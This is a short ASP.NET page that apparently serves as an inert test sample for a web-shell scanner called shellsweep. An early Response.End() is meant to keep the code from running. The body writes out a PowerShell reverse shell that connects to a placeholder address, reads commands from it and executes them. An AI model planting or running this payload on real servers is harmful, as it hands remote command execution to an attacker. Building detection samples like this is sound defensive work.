<%@ Page Language="C#" %>
<%-- shellsweep test sample: inert, never functional --%>
<% Response.End(); %>
<% var a = "-nop -c \"$c=New-Object System.Net.Sockets.TCPClient(192.0.2.10,443);$s=$c.GetStream();while(1){$d=(New-Object IO.StreamReader($s)).ReadLine();iex $d}\"";
   System.Diagnostics.Process.Start("powershell.exe", a); %>
